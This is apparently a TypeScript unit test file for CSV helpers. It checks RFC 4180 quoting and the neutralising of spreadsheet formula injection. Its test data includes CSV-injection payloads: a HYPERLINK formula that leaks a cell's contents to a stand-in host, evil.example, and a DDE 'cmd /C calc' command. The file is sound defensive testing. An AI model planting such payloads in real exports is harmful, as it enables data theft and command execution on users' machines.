import { csvCell, csvRow } from './csv-row';

describe('csvCell', () => {
  it('leaves ordinary text alone', () => {
    expect(csvCell('hook.mp4')).toBe('hook.mp4');
    expect(csvCell('ada@example.com')).toBe('ada@example.com');
    expect(csvCell('🔥 hook – été.mp4')).toBe('🔥 hook – été.mp4');
    expect(csvCell('')).toBe('');
  });

  it('quotes per RFC 4180: commas, quotes, CR and LF, quotes doubled', () => {
    expect(csvCell('a,b')).toBe('"a,b"');
    expect(csvCell('say "hi"')).toBe('"say ""hi"""');
    expect(csvCell('two\nlines')).toBe('"two\nlines"');
    expect(csvCell('cr\rhere')).toBe('"cr\rhere"');
  });

  it('defuses every cell a spreadsheet would run as a formula, with a leading apostrophe', () => {
    const hostile: Array<[string, string]> = [
      ['=1+1', "'=1+1"],
      ['+1-2', "'+1-2"],
      ['-2+3', "'-2+3"],
      ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
      ['\t=1+1', "'\t=1+1"],
      ['\r=1+1', `"'\r=1+1"`],
      ['\0=1+1', "'\0=1+1"],
      ['=HYPERLINK("https://evil.example/?"&A1,"Open")', `"'=HYPERLINK(""https://evil.example/?""&A1,""Open"")"`],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
      ['=1+1,=2+2', `"'=1+1,=2+2"`],
    ];
    for (const [cell, written] of hostile) expect(csvCell(cell)).toBe(written);
  });

  it('leaves a formula character that is not first alone', () => {
    expect(csvCell('a=b+c-d@e')).toBe('a=b+c-d@e');
    expect(csvCell('h1-b1-c1_9x16.mp4')).toBe('h1-b1-c1_9x16.mp4');
  });
});

describe('csvRow', () => {
  it('joins text cells through csvCell and writes numbers as they are, negative ones included', () => {
    expect(csvRow(['=evil()', 'plain', 12.5, -3, 0])).toBe("'=evil(),plain,12.5,-3,0");
  });

  it('refuses a number a spreadsheet cannot read back', () => {
    expect(() => csvRow([Number.NaN])).toThrow(/finite/);
    expect(() => csvRow([Number.POSITIVE_INFINITY])).toThrow(/finite/);
  });
});
